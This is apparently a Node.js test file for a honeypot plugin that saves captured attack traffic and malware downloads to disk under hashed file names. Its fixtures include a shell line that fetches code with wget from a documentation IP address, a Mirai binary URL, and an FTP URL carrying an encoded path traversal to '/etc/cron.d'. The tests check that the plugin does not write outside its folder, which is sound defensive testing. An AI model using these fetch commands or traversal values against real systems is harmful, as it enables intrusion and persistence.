// save-file run as the daemon runs it: the plugin folder in the worker
// engine, report tasks through the harness (runReport, with the artifacts'
// bytes), ctx.files served by the daemon's own files service.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { attackFixture, loadPlugin } from '@honeytrap/sdk';

const dir = fileURLToPath(new URL('..', import.meta.url));
const filesDir = mkdtempSync(join(tmpdir(), 'save-file-test-'));
/** @type {import('@honeytrap/sdk').PluginUnderTest} */
let plugin;
before(async () => {
  plugin = await loadPlugin(dir, { filesDir });
});
after(async () => {
  await plugin.close();
  rmSync(filesDir, { recursive: true, force: true });
});

const md5 = (b) => createHash('md5').update(b).digest('hex');
const sha256 = (b) => createHash('sha256').update(b).digest('hex');
const ID4 = '01M8A1R87GW009PF5K1YK9T9R0';
const ID6 = '01M8A1R87GW009PF5K1YK9T9R1';

/** A download plugin's record with one finding per [url, bytes or null (failed)]. */
function downloads(plugin, list) {
  const findings = list.map(([url, bytes]) =>
    bytes
      ? {
          type: 'download',
          value: url,
          meta: { status: 'ok', size: bytes.length, sha256: sha256(bytes) },
        }
      : { type: 'download', value: url, meta: { status: 'failed', code: 404 } },
  );
  return {
    [plugin]: { plugin, version: '0.1.0', status: 'ok', durationMs: 5, findings, artifacts: [] },
  };
}

test('attack strings, IPv4 and IPv6, in attacks/ under SaveFile names, byte for byte', async () => {
  const bytes = Buffer.from([0x90, 0x90, 0xcc, 0x00, 0x0a]);
  const v4 = attackFixture({
    id: ID4,
    received: bytes,
    port: 445,
    startedAt: '2026-11-25T23:59:59.000Z',
  });
  const v6 = attackFixture({
    id: ID6,
    received: 'USER x\r\n',
    proto: 'udp',
    port: 69,
    remote: { address: '2001:db8::7', port: 50000 },
    localAddress: '::',
  });
  const out4 = await plugin.runReport(v4);
  const out6 = await plugin.runReport(v6);
  const name4 = `attacks/from_port_445-tcp_${ID4}_2026-11-25`;
  const name6 = `attacks/from_port_69-udp_${ID6}_${v6.startedAt.slice(0, 10)}`;
  assert.deepEqual(out4, {
    findings: [{ type: 'x-saved-file', value: name4, meta: { bytes: 5 } }],
    artifacts: [],
  });
  assert.deepEqual(out6.findings, [{ type: 'x-saved-file', value: name6, meta: { bytes: 8 } }]);
  assert.deepEqual(readFileSync(join(filesDir, name4)), bytes);
  assert.equal(readFileSync(join(filesDir, name6), 'utf8'), 'USER x\r\n');
});

test('an attack that sent nothing: no file, as SaveFile', async () => {
  const before_ = readdirSync(join(filesDir, 'attacks')).length;
  const out = await plugin.runReport(attackFixture({ port: 22 }));
  assert.deepEqual(out.findings, []);
  assert.equal(readdirSync(join(filesDir, 'attacks')).length, before_);
});

test('downloads: files that came saved as <md5>-<name>; failed ones, and files not in the report, are not', async () => {
  const elf = Buffer.from('\x7fELF\x02\x01\x01 a bot');
  const script = Buffer.from('#!/bin/sh\nwget http://203.0.113.5/x\n');
  const records = {
    ...downloads('http-download', [
      ['http://203.0.113.5/bins/mirai.x86', elf],
      ['http://203.0.113.5/gone.sh', null],
      ['http://203.0.113.5/', script],
    ]),
    ...downloads('ftp-download', [['ftp://u:p@203.0.113.5/..%2F..%2Fetc%2Fcron.d%2Fx', script]]),
    ...downloads('tftp-download', [['tftp://203.0.113.5/notcarried', Buffer.from('elsewhere')]]),
  };
  const attack = attackFixture({ received: 'x', port: 23 });
  const out = await plugin.runReport(attack, records, [
    { data: elf, name: 'mirai.x86', producer: 'http-download' },
    { data: script, producer: 'http-download' },
  ]);
  const saved = out.findings.filter((f) => f.value.startsWith('downloads/'));
  assert.deepEqual(saved, [
    {
      type: 'x-saved-file',
      value: `downloads/${md5(elf)}-mirai.x86`,
      meta: { url: 'http://203.0.113.5/bins/mirai.x86' },
    },
    {
      type: 'x-saved-file',
      value: `downloads/${md5(script)}`,
      meta: { url: 'http://203.0.113.5/' },
    },
    {
      type: 'x-saved-file',
      value: `downloads/${md5(script)}-__.._etc_cron.d_x`,
      meta: { url: 'ftp://u:p@203.0.113.5/..%2F..%2Fetc%2Fcron.d%2Fx' },
    },
  ]);
  for (const f of saved) assert.ok(existsSync(join(filesDir, f.value)), f.value);
  assert.deepEqual(readFileSync(join(filesDir, `downloads/${md5(elf)}-mirai.x86`)), elf);
  assert.deepEqual(readdirSync(join(filesDir, 'downloads')).length, 3);
  assert.equal(existsSync(join(filesDir, 'etc')), false);
  // a later attack bringing the same file from a URL with the same name: it is there already
  const again = await plugin.runReport(
    attackFixture({ received: 'y', port: 23 }),
    downloads('http-download', [['http://198.51.100.9/x/mirai.x86', elf]]),
    [{ data: elf }],
  );
  assert.deepEqual(again.findings[1], {
    type: 'x-saved-file',
    value: `downloads/${md5(elf)}-mirai.x86`,
    meta: { url: 'http://198.51.100.9/x/mirai.x86' },
  });
  assert.deepEqual(readdirSync(join(filesDir, 'downloads')).length, 3);
});

test('the same report twice (a replay): the attack file is left as it is, no error', async () => {
  const a = attackFixture({ id: '01M8A1R87GW009PF5K1YK9T9R2', received: 'once', port: 8080 });
  const first = await plugin.runReport(a);
  const second = await plugin.runReport(a);
  assert.deepEqual(second, first);
  assert.equal(readFileSync(join(filesDir, first.findings[0].value), 'utf8'), 'once');
});
